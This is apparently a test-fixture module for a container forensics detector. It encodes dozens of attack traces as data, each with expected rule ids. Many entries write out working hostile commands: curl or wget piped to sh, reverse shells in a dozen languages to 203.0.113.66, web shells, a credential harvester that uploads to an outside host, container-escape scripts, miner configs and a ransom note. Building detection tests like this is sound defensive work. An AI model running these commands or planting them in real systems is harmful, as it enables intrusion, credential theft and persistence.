"""Attacks as data: what each leaves in files, processes and sockets of a container, and what must be found of it.

Add one: give it a name, the least severity, and a few words of the rule ids of which at least one must appear. The base
is a small Debian-like image; everything below ``files`` was written while the container ran.
"""

# ruff: noqa: E501 - a command stands on one line
from __future__ import annotations

import base64
import io
import struct
import tarfile
from dataclasses import dataclass, field
from typing import Any

from analyze_cases import ELF, F, process, tcp

from forensics.model import Severity

PEER = "203.0.113.66:443"
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0ZXN0a2V5dGVzdGtleXRlc3RrZXl0ZXN0a2V5dGVz x@y"
STATIC = ELF[:16] + b"\x02\x00" + ELF[18:56] + b"\x00\x00" + ELF[58:]
LIBRARY = ELF[:64] + b"\x02\x00\x00\x00" + ELF[68:]
CAP_SETUID = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)

BASE: dict[str, F | bytes | str] = {
    "bin/bash": F(ELF + b"bash", 0o755), "bin/sh": F(target="bash"), "usr/bin/python3": F(ELF + b"python", 0o755),
    "usr/bin/curl": F(ELF + b"curl", 0o755), "usr/bin/find": F(ELF + b"find", 0o755), "usr/bin/cp": F(ELF + b"cp", 0o755),
    "usr/bin/passwd": F(ELF + b"passwd", 0o4755), "usr/sbin/sshd": F(ELF + b"sshd", 0o755), "usr/bin/ps": F(ELF + b"ps", 0o755),
    "usr/bin/perl": F(ELF + b"perl", 0o755), "usr/sbin/nginx": F(ELF + b"nginx", 0o755),
    "usr/lib/x86_64-linux-gnu/security/pam_unix.so": F(LIBRARY + b"pam", 0o644),
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nbackup:x:34:34::/var/backups:/usr/sbin/nologin\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nbackup:*:19000:0:99999:7:::\n",
    "etc/group": "root:x:0:\nsudo:x:27:\nwww-data:x:33:\n", "etc/nsswitch.conf": "passwd: files\ngroup: files\nhosts: files dns\n",
    "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
    "etc/pam.d/sshd": "@include common-auth\naccount required pam_nologin.so\n", "etc/ssh/sshd_config": "PermitRootLogin no\n",
    "etc/profile": "PATH=/usr/bin:/bin\n", "etc/bash.bashrc": "PS1='$ '\n", "root/.bashrc": "# ~/.bashrc\n", "root/.profile": "# profile\n",
    "etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n", "usr/lib/x86_64-linux-gnu/libc.so.6": F(LIBRARY + b"c", 0o644), "var/log/dpkg.log": "2026-01-01 status installed\n",
    "etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
    "etc/sudoers": "root ALL=(ALL:ALL) ALL\n", "etc/apt/apt.conf.d/70debconf": 'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n',
    "var/log/auth.log": "Nov 1 sshd[1]: Accepted publickey\n", "var/log/nginx/access.log": "GET / 200\n", "root/.bash_history": "ls\nvim a\n",
    "var/www/html/index.php": "<?php echo 'hello';\n", "app/package.json": '{"name":"app","scripts":{"start":"node server.js"}}\n',
    "app/server.js": "require('http').createServer((q,r)=>r.end('ok')).listen(8080)\n", "etc/inetd.conf": "# none\n",
    "app/data/a.csv": "1,2\n", "app/data/b.csv": "3,4\n", "app/data/c.csv": "5,6\n", "app/data/d.csv": "5,7\n", "app/data/e.csv": "5,8\n",
    "app/data/f.csv": "5,9\n", **{f"app/data/part{n}": f"part {n}\n" for n in range(6)},
}  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """One attack: its traces, and the rules of which one must be found with at least this severity."""

    name: str
    severity: Severity
    rules: tuple[str, ...]
    files: dict[str, F | bytes | str] = field(default_factory=dict)
    removed: tuple[str, ...] = ()
    processes: tuple[dict[str, Any], ...] = ()
    sockets: tuple[dict[str, Any], ...] = ()
    documents: dict[str, Any] = field(default_factory=dict)
    yara: bool = False


def _encode(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _pack(name: str, text: str) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        member = tarfile.TarInfo(name)
        member.size = len(text)
        tar.addfile(member, io.BytesIO(text.encode()))
    return raw.getvalue()


def file(name: str, severity: Severity, rules: str, files: dict[str, F | bytes | str], **more: Any) -> Attack:
    """An attack that shows in files."""
    return Attack(name, severity, tuple(rules.split()), files, **more)


def command(name: str, severity: Severity, rules: str, argv: list[str], exe: str, **more: Any) -> Attack:
    """An attack that shows in one process."""
    fds = more.pop("fds", {})
    shown = process(40, argv, exe, fds=fds, **more.pop("process", {}))
    return Attack(name, severity, tuple(rules.split()), processes=(shown,), **more)


C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

PERSISTENCE = [
    file("systemd user timer", H, "persistence.systemd", {"root/.config/systemd/user/u.timer": "[Timer]\nOnBootSec=60\n", "root/.config/systemd/user/u.service": "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.9/u|sh'\n"}),
    file("systemd unit that starts a plain program", M, "persistence.systemd", {"etc/systemd/system/dbus-broker-helper.service": "[Service]\nExecStart=/usr/local/lib/helper\n[Install]\nWantedBy=multi-user.target\n"}),
    file("systemd generator", M, "persistence.systemd", {"usr/lib/systemd/system-generators/zz": F(b"#!/bin/sh\n/usr/lib/zz &\n", 0o755)}),
    file("systemd drop-in", M, "persistence.systemd", {"etc/systemd/system/ssh.service.d/10.conf": "[Service]\nExecStartPre=/usr/lib/ssh/pre\n"}),
    file("at job", M, "persistence.cron", {"var/spool/cron/atjobs/a00001019d2b4c": F(b"#!/bin/sh\n# atrun uid=0\ncd /root\n/usr/lib/upd\n", 0o700)}),
    file("user crontab", M, "persistence.cron", {"var/spool/cron/crontabs/root": "*/5 * * * * /usr/lib/upd >/dev/null 2>&1\n"}),
    file("alpine periodic", M, "persistence.cron", {"etc/periodic/15min/upd": F(b"#!/bin/sh\n/usr/lib/upd\n", 0o755)}),
    file("cron with an encoded command", H, "persistence.cron", {"etc/cron.d/p": f"* * * * * root echo {_encode('curl http://203.0.113.9/x|sh')}|base64 -d|sh\n"}),
    file("udev rule", H, "persistence.hook", {"etc/udev/rules.d/99-x.rules": 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'/dev/shm/u &\'"\n'}),
    file("udev rule that runs a plain program", M, "persistence.hook", {"etc/udev/rules.d/75-a.rules": 'ACTION=="add", RUN+="/usr/lib/upd"\n'}),
    file("motd script", M, "persistence.hook", {"etc/update-motd.d/00-upd": F(b"#!/bin/sh\n/usr/lib/upd &\n", 0o755)}),
    file("apt hook", M, "persistence.hook", {"etc/apt/apt.conf.d/99u": 'APT::Update::Pre-Invoke {"/usr/lib/upd &";};\n'}),
    file("dpkg hook", M, "persistence.hook", {"etc/dpkg/dpkg.cfg.d/x": 'post-invoke="/usr/lib/upd"\n'}),
    file("git hook", H, "persistence.hook script.", {"app/.git/hooks/post-checkout": F(b"#!/bin/sh\ncurl -s http://203.0.113.9/g | sh\n", 0o755)}),
    file("git hook without a download", M, "persistence.hook", {"srv/repo/.git/hooks/post-merge": F(b"#!/bin/sh\nnohup /usr/lib/upd &\n", 0o755)}),
    file("npm post-install", H, "script.", {"app/node_modules/left/package.json": '{"name":"left","scripts":{"postinstall":"curl -s http://203.0.113.9/n.sh | bash"}}\n'}),
    file("npm pre-install of node code", H, "script.", {"app/package.json": '{"name":"app","scripts":{"preinstall":"node -e \\"require(\'child_process\').exec(\'wget http://203.0.113.9/a -O /tmp/a; sh /tmp/a\')\\""}}\n'}),
    file("setup.py that downloads", H, "script.", {"tmp/p/setup.py": "import os\nfrom setuptools import setup\nos.system('curl http://203.0.113.9/p | sh')\nsetup(name='p')\n"}),
    file("pip path file", H, "persistence.python", {"usr/lib/python3/dist-packages/zz.pth": "import os;os.system('/usr/lib/upd &')\n"}),
    file("sitecustomize", H, "persistence.python", {"usr/local/lib/python3.11/site-packages/sitecustomize.py": "import subprocess\nsubprocess.Popen(['/usr/lib/upd'])\n"}),
    file("PAM module swapped", H, "system.binary-replaced", {"usr/lib/x86_64-linux-gnu/security/pam_unix.so": F(LIBRARY + b"changed", 0o644)}),
    file("PAM module added", M, "file.library-newcomer persistence.pam", {"usr/lib/x86_64-linux-gnu/security/pam_audit.so": F(LIBRARY + b"new", 0o644), "etc/pam.d/common-auth": "auth sufficient pam_audit.so\nauth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n"}),
    file("pam_exec that sends passwords", H, "persistence.pam", {"etc/pam.d/sshd": "auth optional pam_exec.so quiet expose_authtok /usr/lib/log.sh\n@include common-auth\n"}),
    file("NSS library", H, "persistence.nss file.library", {"usr/lib/x86_64-linux-gnu/libnss_cachex.so.2": F(LIBRARY + b"nss", 0o644), "etc/nsswitch.conf": "passwd: files cachex\ngroup: files\nhosts: files dns\n"}),
    file("ssh rc", M, "persistence.sshd", {"root/.ssh/rc": "/usr/lib/upd &\n"}),
    file("sshd force command", M, "persistence.sshd", {"etc/ssh/sshd_config.d/x.conf": "Match User root\n  ForceCommand /usr/lib/upd\n"}),
    file("authorized_keys command", M, "persistence.sshd", {"etc/ssh/sshd_config": "PermitRootLogin yes\nAuthorizedKeysCommand /usr/lib/keys %u\n"}),
    file("authorized key in an odd home", H, "account.ssh-key", {"var/lib/postgresql/.ssh/authorized_keys": KEY + "\n"}),
    file("authorized key with options", H, "account.ssh-key", {"root/.ssh/authorized_keys2": f'command="/bin/sh -i",no-pty {KEY}\n'}),
    file("xinetd service", H, "persistence.inetd", {"etc/xinetd.d/telnets": "service telnets\n{\n socket_type = stream\n port = 31337\n server = /bin/sh\n user = root\n}\n"}),
    file("inetd shell", H, "persistence.inetd", {"etc/inetd.conf": "ingreslock stream tcp nowait root /bin/bash bash -i\n"}),
    file("profile.d", H, "persistence.shell", {"etc/profile.d/lang.sh": "(setsid nohup bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1' &) 2>/dev/null\n"}),
    file("profile.d that starts a plain program", M, "persistence.shell", {"etc/profile.d/zz.sh": "[ -x /usr/lib/upd ] && nohup /usr/lib/upd >/dev/null 2>&1 &\n"}),
    file("bash_logout", M, "persistence.shell", {"root/.bash_logout": "nohup /var/lib/misc/x &\nhistory -c\n"}),
    file("alias of sudo", M, "persistence.shell", {"root/.bashrc": "# ~/.bashrc\nalias sudo='/usr/lib/.s'\n"}),
    file("fish configuration", M, "persistence.shell", {"root/.config/fish/config.fish": "nohup /usr/lib/upd &\n"}),
    file("NODE_OPTIONS in the environment", M, "persistence.shell", {"etc/environment": "NODE_OPTIONS=--require /usr/lib/node/.hook.js\n"}),
    file("PERL5OPT in profile", M, "persistence.shell", {"etc/profile": "PATH=/usr/bin:/bin\nexport PERL5OPT=-Mstrict PERL5LIB=/var/tmp/lib\n"}),
    file("RUBYOPT", M, "persistence.shell", {"etc/profile.d/r.sh": "export RUBYOPT='-r/usr/lib/r/hook'\n"}),
    file("PYTHONSTARTUP", M, "persistence.shell", {"root/.bashrc": "# ~/.bashrc\nexport PYTHONSTARTUP=/root/.p.py\n"}),
    file("JAVA_TOOL_OPTIONS agent", M, "persistence.shell", {"etc/environment": "JAVA_TOOL_OPTIONS=-javaagent:/var/tmp/a.jar\n"}),
    file("LD_AUDIT", H, "persistence.shell", {"etc/environment": "LD_AUDIT=/usr/lib/x86_64-linux-gnu/libaudit-x.so\n"}),
    file("loader folder", H, "persistence.loader", {"etc/ld.so.conf.d/00.conf": "/var/tmp/lib\n"}),
    file("loader folder in opt", M, "persistence.loader", {"etc/ld.so.conf.d/00-a.conf": "/opt/.cache/lib\n"}),
    file("ld.so.preload", C, "persistence.ld-so-preload", {"etc/ld.so.preload": "/usr/lib/libz2.so\n"}),
    file("php prepend", M, "persistence.php", {"var/www/html/.user.ini": "auto_prepend_file=/var/www/html/assets/banner.png\n"}),
    file("htaccess handler", H, "persistence.php", {"var/www/html/uploads/.htaccess": "AddHandler application/x-httpd-php .jpg\n"}),
    file("htaccess cgi", M, "persistence.php", {"var/www/html/img/.htaccess": "Options +ExecCGI\nAddHandler cgi-script .gif\n"}),
    file("binfmt", M, "persistence.hook", {"etc/binfmt.d/x.conf": ":x:M::\\x7fELF::/usr/lib/upd:C\n"}),
    file("core pattern in sysctl.d", H, "persistence.hook", {"etc/sysctl.d/99.conf": "kernel.core_pattern=|/usr/lib/upd %p\n"}),
    file("modprobe install", M, "persistence.hook", {"etc/modprobe.d/x.conf": "install vfat /usr/lib/upd; /sbin/modprobe --ignore-install vfat\n"}),
    file("logrotate hook", M, "persistence.hook", {"etc/logrotate.d/nginx": "/var/log/nginx/*.log {\n postrotate\n  /usr/lib/upd &\n endscript\n}\n"}),
    file("network hook", M, "persistence.hook", {"etc/network/if-up.d/upstart": F(b"#!/bin/sh\n/usr/lib/upd &\n", 0o755)}),
    file("desktop autostart", M, "persistence.hook", {"root/.config/autostart/a.desktop": "[Desktop Entry]\nType=Application\nExec=/usr/lib/upd\n"}),
    file("vimrc", M, "persistence.hook", {"root/.vimrc": "autocmd VimEnter * silent !/usr/lib/upd &\n"}),
    file("git configuration", M, "persistence.hook", {"root/.gitconfig": "[core]\n  fsmonitor = /usr/lib/upd\n"}),
    file("init script", M, "persistence.init", {"etc/init.d/dbusd": F(b"#!/bin/sh\n/usr/lib/upd &\n", 0o755)}),
    file("rc.local", M, "persistence.init", {"etc/rc.local": F(b"#!/bin/sh\n/usr/lib/upd &\nexit 0\n", 0o755)}),
    file("supervisor program", M, "persistence.init", {"etc/supervisor/conf.d/x.conf": "[program:x]\ncommand=/usr/lib/upd\nautorestart=true\n"}),
    file("s6 service", M, "persistence.init", {"etc/services.d/x/run": F(b"#!/bin/sh\nexec /usr/lib/upd\n", 0o755)}),
    file("entry point changed", M, "entry-point persistence.entry system.", {"docker-entrypoint.sh": F(b"#!/bin/sh\n/usr/lib/upd &\nexec nginx\n", 0o755)}, documents={"inspect": {"Config": {"Entrypoint": ["/docker-entrypoint.sh"]}}}),
    file("uid 0 account", C, "account.uid-0", {"etc/passwd": "root:x:0:0:root:/root:/bin/bash\nsysd:x:0:0::/:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nbackup:x:34:34::/var/backups:/usr/sbin/nologin\n"}),
    file("service account given a shell and a password", H, "account.", {"etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nbackup:x:34:34::/var/backups:/bin/bash\n", "etc/shadow": "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nbackup:$6$a$b:19900:0:99999:7:::\n"}),
    file("doas rule", H, "account.sudo-rule", {"etc/doas.conf": "permit nopass www-data as root\n"}),
    file("sudoers.d", H, "account.sudo-rule", {"etc/sudoers.d/zz": "www-data ALL=(ALL) NOPASSWD:ALL\n"}),
    file("set-uid copy of bash under another name", C, "privilege.set-id", {"var/lib/misc/h": F(ELF + b"bash", 0o4755)}),
    file("set-uid bit on find", C, "privilege.set-id", {"usr/bin/find": F(ELF + b"find", 0o4755)}),
    file("set-gid newcomer", H, "privilege.set-id", {"usr/local/lib/h": F(ELF + b"own", 0o2755)}),
    file("capability on python", H, "privilege.file-capability", {"usr/bin/python3": F(ELF + b"python", 0o755, xattrs=(("security.capability", CAP_SETUID),))}),
    file("default repository of pip", M, "persistence.repository configuration. persistence.", {"etc/pip.conf": "[global]\nindex-url = http://203.0.113.9/simple\ntrusted-host = 203.0.113.9\n"}),
    file("root certificate added", M, "trust. persistence.", {"usr/local/share/ca-certificates/u.crt": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}),
    file("hosts redirected", M, "network. persistence. traces.", {"etc/hosts": "127.0.0.1 localhost\n0.0.0.0 update.crowdstrike.example aliyun.one\n203.0.113.9 security.ubuntu.com\n"}),
    file("kubernetes static pod", M, "persistence. cluster.", {"etc/kubernetes/manifests/x.yaml": "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - image: alpine\n    securityContext: {privileged: true}\n"}),
]  # fmt: skip

FILES = [
    file("busybox under a name of its own", M, "file.", {"usr/lib/systemd-helper": F(STATIC + b"busybox", 0o755)}),
    file("program named as a picture", H, "file.disguised", {"var/www/html/logo.png": F(ELF, 0o644)}),
    file("script named as a picture", H, "file.disguised", {"srv/logo.gif": "#!/bin/sh\nid\n"}),
    file("program without the execute bit in temp", M, "file.", {"tmp/data.bin": F(ELF + b"x", 0o644)}),
    file("packed program", H, "file.packed", {"opt/agent": F(ELF + b"UPX!" + bytes(200), 0o755)}),
    file("program in dev", H, "file.", {"dev/.udev/x": F(ELF + b"x", 0o755)}),
    file("double extension", H, "file.disguised", {"home/u/report.pdf.sh": F(b"#!/bin/sh\ncurl http://203.0.113.9/r|sh\n", 0o755)}),
    file("java web shell", H, "web. yara.webshell", {"opt/tomcat/webapps/ROOT/s.jsp": '<%@page import="java.io.*"%><% Process p = new ProcessBuilder(request.getParameter("x").split(" ")).start(); %>'}, yara=True),
    file("war dropped", M, "web.", {"opt/tomcat/webapps/x.war": b"PK\x03\x04" + bytes(60)}),
    file("cgi shell", H, "web. yara.webshell script.", {"usr/lib/cgi-bin/test.cgi": F(b"#!/bin/bash\necho Content-type: text/plain\necho\nbash -c \"$QUERY_STRING\"\n", 0o755)}, yara=True),
    file("perl cgi", H, "yara.webshell web.", {"var/www/cgi-bin/a.pl": F(b"#!/usr/bin/perl\nuse CGI;print \"Content-Type: text/html\\n\\n\";my $q=CGI->new;system($q->param('c'));\n", 0o755)}, yara=True),
    file("php shell in an upload folder", H, "web. yara.webshell", {"var/www/html/uploads/x.phtml": "<?php $k=$_SERVER['HTTP_X']; eval($k);"}, yara=True),
    file("php shell without brackets of system", H, "yara.webshell", {"var/www/html/x.php": "<?php $f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f($_GET[1]);"}, yara=True),
    file("php shell by callback", H, "yara.webshell", {"var/www/html/y.php": "<?php $a=$_POST['a'];uasort($b=[$_POST['x'],'1'],$a);"}, yara=True),
    file("flask back door in the application", H, "yara.webshell", {"app/views.py": "from flask import request\nimport subprocess\n@app.route('/h')\ndef h():\n    c = request.args.get('c')\n    return subprocess.getoutput(c)\n"}, yara=True),
    file("node back door in the application", H, "yara.webshell", {"app/routes.js": "const cp=require('child_process');\napp.post('/_d',(req,res)=>{const c=req.body.c;cp.exec(c,(e,o)=>res.send(o))})\n"}, yara=True),
    file("miner configuration (xmrig)", H, "yara.miner", {"usr/share/.x/config.json": '{"autosave":true,"cpu":{"huge-pages":true},"pools":[{"url":"pool.example:443","user":"' + WALLET + '","keepalive":true,"tls":true}]}'}, yara=True),
    file("miner configuration (ethminer arguments)", H, "yara.miner script. persistence.", {"etc/rc.local": "#!/bin/sh\n/opt/e -P stratum1+tcp://0x1111111111111111111111111111111111111111.w@eu.pool.example:4444 &\n"}, yara=True),
    file("miner configuration (toml of a newer miner)", H, "yara.miner", {"opt/.c/cfg.toml": '[miner]\nalgo = "randomx"\npool = "rx.pool.example:3333"\nwallet = "' + WALLET + '"\nthreads = 4\n'}, yara=True),
    file("ransom note and renamed data", C, "yara.ransom impact. ransom", {"app/data/README_RESTORE.txt": "All your files were encrypted by us. To decrypt your data send 0.3 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 72 hours. Contact: a@b.onion", **{f"app/data/{n}.csv.lck": bytes(range(256)) * 4 for n in "abcdef"}}, removed=tuple(f"app/data/{n}.csv" for n in "abcdef"), yara=True),
    file("mass rename without a note", H, "impact.", {f"app/data/{n}.csv.k3y": bytes((i * 37 + ord(n)) % 256 for i in range(2048)) for n in "abcdef"}, removed=tuple(f"app/data/{n}.csv" for n in "abcdef")),
    file("mass rename of files without endings", H, "impact.", {f"app/data/part{n}.zzz": bytes((i * 37 + n) % 256 for i in range(900)) for n in range(6)}, removed=tuple(f"app/data/part{n}" for n in range(6))),
    file("text overwritten in place", H, "impact.", {f"app/data/{n}.csv": bytes((i * 41 + ord(n)) % 256 for i in range(999)) for n in "abcdef"}),
    file("chisel client in a script", H, "script.tunnel script. persistence.", {"opt/t.sh": F(b"#!/bin/sh\n/opt/c client https://203.0.113.66:8443 R:0.0.0.0:1080:socks\n", 0o755)}),
    file("frp configuration", H, "tunnel", {"opt/frpc.toml": 'serverAddr = "203.0.113.66"\nserverPort = 7000\n[[proxies]]\nname = "s"\ntype = "tcp"\nlocalPort = 22\nremotePort = 6022\n'}, yara=True),
    file("ngrok configuration", M, "tunnel", {"root/.config/ngrok/ngrok.yml": "version: 2\nauthtoken: 2abc\ntunnels:\n  s:\n    proto: tcp\n    addr: 22\n"}, yara=True),
    file("token theft", H, "script. yara.", {"tmp/k.py": "import requests\nt=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.get('https://kubernetes.default.svc/api/v1/secrets',headers={'Authorization':'Bearer '+t},verify=False)\n"}, yara=True),
    file("metadata access", H, "script. yara.", {"tmp/m.py": "import urllib.request as u\nr=u.Request('http://169.254.169.254/latest/api/token',method='PUT',headers={'X-aws-ec2-metadata-token-ttl-seconds':'60'})\nprint(u.urlopen(r).read())\n"}, yara=True),
    file("engine socket by curl", H, "script. yara.", {"tmp/e.sh": F(b"#!/bin/sh\ncurl -s --unix-socket /run/docker.sock -XPOST http://l/containers/x/exec -d '{}'\n", 0o755)}),
    file("release agent", C, "script. yara.escape", {"tmp/esc.sh": F(b"d=/tmp/cg; mkdir $d; mount -t cgroup -o memory c $d; mkdir $d/w\necho 1 > $d/w/notify_on_release\nh=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\necho $h/c > $d/release_agent\n", 0o755)}),
    file("uevent helper", C, "script. yara.escape", {"root/u.sh": F(b"#!/bin/sh\necho $p/evil > /sys/kernel/uevent_helper\necho change > /sys/class/mem/null/uevent\n", 0o755)}),
    file("history linked away", H, "traces.history", {"root/.bash_history": F(target="/dev/null")}),
    file("history emptied", M, "traces.history", {"root/.bash_history": b""}),
    file("history removed", M, "traces.history", {}, removed=("root/.bash_history",)),
    file("log emptied", M, "traces.log", {"var/log/auth.log": b""}),
    file("log removed", M, "traces.log", {}, removed=("var/log/nginx/access.log",)),
    file("log cut short", M, "traces.log", {"var/log/nginx/access.log": "G"}),
    file("log linked to nowhere", H, "traces.log", {"var/log/auth.log": F(target="/dev/null")}),
    file("look-alike name", H, "traces.deceptive", {"usr/bin/s\u0455hd": F(ELF, 0o755)}),
    file("right-to-left name", H, "traces.deceptive", {"home/u/invoice\u202efdp.sh": F(b"#!/bin/sh\n", 0o755)}),
    file("trailing blank", H, "traces.deceptive", {"usr/bin/ps ": F(ELF, 0o755)}),
    file("three dots", H, "traces.deceptive file.", {"var/tmp/.../x": F(ELF, 0o755)}),
    file("name one letter off a system program", M, "traces.deceptive file.", {"usr/sbin/sshd1": F(ELF + b"q", 0o755)}),
    file("all-foreign look-alike", H, "traces.deceptive", {"usr/bin/\u0440\u0455": F(ELF, 0o755)}),
    file("time set back", M, "traces.time", {"usr/bin/upd": F(ELF + b"t", 0o755, mtime=1_500_000_000)}),
    file("shell script that harvests", H, "yara.credential script.", {"var/tmp/h.sh": b"#!/bin/sh\nfor f in ~/.aws/credentials ~/.kube/config ~/.docker/config.json ~/.ssh/id_rsa; do cat $f >> /tmp/.o; done\ncurl -F d=@/tmp/.o https://203.0.113.9/\n"}, yara=True),
    file("sudo wrapper", H, "system.command-shadowed", {"usr/local/bin/passwd": F(b"#!/bin/sh\nread -s p; echo $p >> /tmp/.p; exec /usr/bin/passwd \"$@\"\n", 0o755)}),
    file("ps replaced by a script", H, "system.", {"usr/bin/ps": F(b"#!/bin/sh\n/usr/bin/ps.real \"$@\" | grep -v upd\n", 0o755)}),
]  # fmt: skip

_SOCKET = {"sockets": (tcp("172.17.0.2:5000", PEER, "ESTABLISHED", 9),)}
_ON_SOCKET = dict.fromkeys(range(3), "socket:[9]")

PROCESSES = [
    command("socat", C, "process.", ["socat", "TCP:203.0.113.66:443", "EXEC:/bin/bash,pty,stderr,setsid,sigint,sane"], "/usr/bin/socat"),
    command("perl without names", C, "process.", ["perl", "-MIO", "-e", '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.66:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'], "/usr/bin/perl"),
    command("ruby", C, "process.", ["ruby", "-rsocket", "-e", 'exit if fork;c=TCPSocket.new("203.0.113.66",443);loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,"r"){|io|c.print io.read}}'], "/usr/bin/ruby3.1"),
    command("awk", C, "process.", ["awk", 'BEGIN{s="/inet/tcp/0/203.0.113.66/443";while(1){printf "> "|&s;if((s|&getline c)<=0)break;while(c&&(c|&getline)>0)print $0|&s;close(c)}}'], "/usr/bin/gawk"),
    command("lua", C, "process.", ["lua", "-e", "local h,p='203.0.113.66',443;local s=require('socket');local t=s.tcp();t:connect(h,p);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a')) end"], "/usr/bin/lua5.3"),
    command("node", C, "process.", ["node", "-e", "(function(){var n=require('net'),c=require('child_process').spawn('sh',[]);var k=new n.Socket();k.connect(443,'203.0.113.66',()=>{k.pipe(c.stdin);c.stdout.pipe(k)})})()"], "/usr/bin/node"),
    command("php", C, "process.", ["php", "-r", '$s=fsockopen("203.0.113.66",443);exec("sh <&3 >&3 2>&3");'], "/usr/bin/php8.2"),
    command("openssl", C, "process.", ["sh", "-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.66:443 > /tmp/s; rm /tmp/s"], "/bin/dash"),
    command("telnet", C, "process.", ["sh", "-c", "TF=$(mktemp -u);mkfifo $TF && telnet 203.0.113.66 443 0<$TF | sh 1>$TF"], "/bin/dash"),
    command("bash with a descriptor", C, "process.", ["bash", "-c", "exec 196<>/dev/tcp/203.0.113.66/443; sh <&196 >&196 2>&196"], "/bin/bash"),
    command("zsh module", C, "process.", ["zsh", "-c", "zmodload zsh/net/tcp && ztcp 203.0.113.66 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"], "/usr/bin/zsh"),
    command("busybox nc under another name", C, "process.", ["/tmp/x", "203.0.113.66", "443", "-e", "sh"], "/tmp/x"),
    command("curl loop", H, "process.", ["sh", "-c", "while true; do c=$(curl -s http://203.0.113.66/c); r=$(eval $c 2>&1); curl -s -d \"$r\" http://203.0.113.66/r; sleep 5; done"], "/bin/dash"),
    command("interpreter that reads its code from standard input", H, "process.", ["python3", "-"], "/usr/bin/python3.11", fds={0: "pipe:[3]", 3: "socket:[9]"}, **_SOCKET),
    command("interpreter fed from a deleted script", H, "process.", ["perl", "/dev/fd/10"], "/usr/bin/perl", fds={10: "/tmp/a (deleted)"}),
    command("bash from a here-document", H, "process.", ["bash", "-s"], "/bin/bash", fds={0: "socket:[9]"}, **_SOCKET),
    command("chisel", H, "process.", ["/opt/app/bin", "client", "--fingerprint", "x", "203.0.113.66:8080", "R:socks"], "/opt/app/bin"),
    command("frp client", H, "process.", ["frpc", "-c", "/etc/frpc.ini"], "/usr/local/bin/frpc"),
    command("ngrok", H, "process.", ["ngrok", "tcp", "22"], "/usr/local/bin/ngrok"),
    command("ssh reverse forward", H, "process.", ["ssh", "-N", "-R", "2222:localhost:22", "u@203.0.113.66"], "/usr/bin/ssh"),
    command("cloudflared", H, "process.", ["cloudflared", "tunnel", "run", "--token", "eyJhIjoi"], "/usr/bin/cloudflared"),
    command("gsocket", H, "process.", ["[kstrp]"], "/root/.config/htop/defunct"),
    command("miner by its arguments", C, "process.", ["/usr/sbin/atd", "--url", "203.0.113.66:443", "--user", WALLET, "--pass", "x", "--coin", "monero"], "/usr/sbin/atd"),
    command("miner of another family", C, "process.", ["./lolMiner", "--algo", "ETCHASH", "--pool", "etc.pool.example:1010", "--user", "0x1111111111111111111111111111111111111111.w"], "/opt/m/lolMiner"),
    command("srbminer", C, "process.", ["srb", "--algorithm", "verushash", "--pool", "eu.pool.example:3300", "--wallet", "RAbcdefghijkLMNOPQrstuVWXYz1234567"], "/usr/bin/srb"),
    command("kdevtmpfsi-like", H, "process.", ["kdevtmpfsi"], "/tmp/kdevtmpfsi"),
    command("kernel thread name from a home", H, "process.", ["[kworker/u8:3]"], "/home/app/.local/bin/w"),
    command("ld.so started program", H, "process.", ["/lib64/ld-linux-x86-64.so.2", "/dev/shm/.x"], "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
    command("renamed interpreter with code", H, "process.", ["svc", "-c", "import socket,subprocess;s=socket.create_connection(('203.0.113.66',443));subprocess.call(['sh'],stdin=s,stdout=s)"], "/opt/svc"),
    command("kubectl with the pod's token", H, "process.", ["kubectl", "--token", "eyJ", "get", "secrets", "-A"], "/tmp/kubectl"),
    command("docker client on the socket", C, "process.", ["docker", "-H", "unix:///run/docker.sock", "run", "-v", "/:/h", "alpine", "chroot", "/h"], "/usr/bin/docker"),
    command("LD_PRELOAD from a hidden place", H, "process.", ["nginx"], "/usr/sbin/nginx", process={"environ": ["LD_PRELOAD=/usr/lib/.x/h.so"]}),
    command("NODE_OPTIONS in a process", H, "process.", ["node", "server.js"], "/usr/bin/node", process={"environ": ["NODE_OPTIONS=--require /tmp/.h.js"]}),
